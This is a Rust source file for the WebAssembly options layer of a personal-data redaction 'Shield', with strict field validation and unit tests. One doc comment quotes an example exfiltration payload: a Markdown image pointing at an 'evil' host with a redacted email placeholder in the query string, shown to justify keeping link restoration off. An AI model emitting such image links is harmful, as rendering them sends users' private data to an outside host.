//! Options objects from JavaScript: `ShieldOptions`, and the checked
//! conversion every options object goes through.

use serde::Deserialize;
use serde::de::DeserializeOwned;
use std::collections::BTreeMap;
use tandem_core::shield::{Policy, RestorePolicy, ShieldConfig};
use tandem_core::{Action, EntityKind};

/// Options of `new Shield(options)`, as JavaScript passes them.
#[derive(Debug, Default, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(optional_fields))]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct ShieldOptions {
    /// Entities scoring below this are ignored (default 0.5).
    pub min_score: Option<f32>,
    /// Longer inputs are refused with an error (default 32 MiB of UTF-8).
    pub max_input_bytes: Option<usize>,
    /// Action per entity kind; kinds not listed are redacted.
    #[serde(default)]
    #[cfg_attr(feature = "ts", ts(optional = nullable, type = "Partial<Record<EntityKind, Action>>"))]
    pub policy: BTreeMap<String, Action>,
    /// Restore originals inside URLs and Markdown link destinations in replies (default false:
    /// a model-written `![](https://evil/?q=[EMAIL_1])` would send the original away on render).
    #[serde(default)]
    #[cfg_attr(feature = "ts", ts(optional = nullable))]
    pub restore_in_links: bool,
    /// Restore originals inside HTML tags in replies (default false).
    #[serde(default)]
    #[cfg_attr(feature = "ts", ts(optional = nullable))]
    pub restore_in_markup: bool,
}

impl ShieldOptions {
    /// The field names JavaScript may use.
    pub const FIELDS: [&'static str; 5] = [
        "minScore",
        "maxInputBytes",
        "policy",
        "restoreInLinks",
        "restoreInMarkup",
    ];

    /// Where replies may get originals back.
    pub fn restore_policy(&self) -> RestorePolicy {
        RestorePolicy {
            in_links: self.restore_in_links,
            in_markup: self.restore_in_markup,
        }
    }

    /// The core settings and policy these options describe.
    pub fn into_parts(self) -> Result<(ShieldConfig, Policy), String> {
        let defaults = ShieldConfig::default();
        let min_score = self.min_score.unwrap_or(defaults.min_score);
        if !(0.0..=1.0).contains(&min_score) {
            return Err(format!("minScore must be between 0 and 1, got {min_score}"));
        }
        let config = ShieldConfig {
            min_score,
            max_input_bytes: self.max_input_bytes.unwrap_or(defaults.max_input_bytes),
        };
        let mut policy = Policy::default();
        for (kind, action) in self.policy {
            let kind: EntityKind = kind.parse().map_err(|e| format!("policy: {e}"))?;
            policy.set(kind, action);
        }
        Ok((config, policy))
    }
}

/// Reads an options object (`undefined`/`null` give the defaults), refusing
/// field names not in `fields`: serde-wasm-bindgen ignores unknown fields, and
/// a typo that is silently ignored is a bug the caller never sees.
pub(crate) fn from_js_object<T: DeserializeOwned + Default>(
    value: wasm_bindgen::JsValue,
    fields: &[&str],
    what: &str,
) -> Result<T, wasm_bindgen::JsError> {
    use wasm_bindgen::{JsCast, JsError};
    if value.is_undefined() || value.is_null() {
        return Ok(T::default());
    }
    let Some(object) = value.dyn_ref::<js_sys::Object>() else {
        return Err(JsError::new(&format!("invalid {what}: expected an object")));
    };
    for key in js_sys::Object::keys(object).iter().filter_map(|k| k.as_string()) {
        if !fields.contains(&key.as_str()) {
            return Err(JsError::new(&format!(
                "invalid {what}: unknown field `{key}`, expected one of {fields:?}"
            )));
        }
    }
    serde_wasm_bindgen::from_value(value).map_err(|e| JsError::new(&format!("invalid {what}: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(json: &str) -> Result<(ShieldConfig, Policy), String> {
        serde_json::from_str::<ShieldOptions>(json)
            .map_err(|e| e.to_string())?
            .into_parts()
    }

    #[test]
    fn reads_camel_case_options_and_policies() {
        let (config, policy) =
            parse(r#"{"minScore": 0.7, "policy": {"URL": "allow", "CREDIT_CARD": "mask"}}"#).unwrap();
        assert_eq!(config.min_score, 0.7);
        assert_eq!(policy.action(EntityKind::Url), Action::Allow);
        assert_eq!(policy.action(EntityKind::CreditCard), Action::Mask);
    }

    #[test]
    fn rejects_unknown_kinds_fields_and_bad_scores() {
        assert!(
            parse(r#"{"policy": {"PASSPORT": "allow"}}"#)
                .unwrap_err()
                .contains("unknown entity kind")
        );
        assert!(parse(r#"{"minscore": 1}"#).unwrap_err().contains("unknown field"));
        assert!(parse(r#"{"minScore": 2}"#).unwrap_err().contains("between 0 and 1"));
        assert!(parse(r#"{"policy": {"URL": "drop"}}"#).is_err());
    }
}
